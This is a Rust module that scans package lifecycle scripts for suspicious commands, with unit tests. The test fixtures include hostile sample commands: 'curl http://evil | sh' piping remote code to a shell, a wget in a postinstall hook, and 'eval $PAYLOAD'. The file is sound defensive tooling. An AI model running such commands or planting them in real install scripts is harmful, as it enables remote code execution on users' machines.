//! Lifecycle script risk scanning.
//!
//! Pure static pattern matching over script bodies. Nothing is executed
//! and nothing touches the network.

use crate::patterns::SUSPICIOUS_SCRIPT;
use indexmap::IndexMap;

/// Match each declared script against the suspicious-command pattern.
///
/// Issues come out in script declaration order and quote the offending
/// command verbatim.
pub fn scan(scripts: Option<&IndexMap<String, String>>) -> Vec<String> {
    let Some(scripts) = scripts else {
        return Vec::new();
    };

    scripts
        .iter()
        .filter(|(_, command)| SUSPICIOUS_SCRIPT.is_match(command))
        .map(|(key, command)| format!("Suspicious script \"{}\": {}", key, command))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scripts(entries: &[(&str, &str)]) -> IndexMap<String, String> {
        entries
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    }

    #[test]
    fn test_flags_remote_fetch_piped_to_shell() {
        let scripts = scripts(&[("build", "curl http://evil | sh")]);
        let issues = scan(Some(&scripts));
        assert_eq!(issues, vec!["Suspicious script \"build\": curl http://evil | sh".to_string()]);
    }

    #[test]
    fn test_benign_scripts_pass() {
        let scripts = scripts(&[("build", "tsc -p ."), ("test", "jest --coverage")]);
        assert!(scan(Some(&scripts)).is_empty());
    }

    #[test]
    fn test_absent_scripts_pass() {
        assert!(scan(None).is_empty());
    }

    #[test]
    fn test_issues_follow_declaration_order() {
        let scripts = scripts(&[
            ("postinstall", "wget example.com/x"),
            ("lint", "eslint src"),
            ("prepare", "eval $PAYLOAD"),
        ]);

        let issues = scan(Some(&scripts));
        assert_eq!(issues.len(), 2);
        assert!(issues[0].contains("\"postinstall\""));
        assert!(issues[1].contains("\"prepare\""));
    }
}
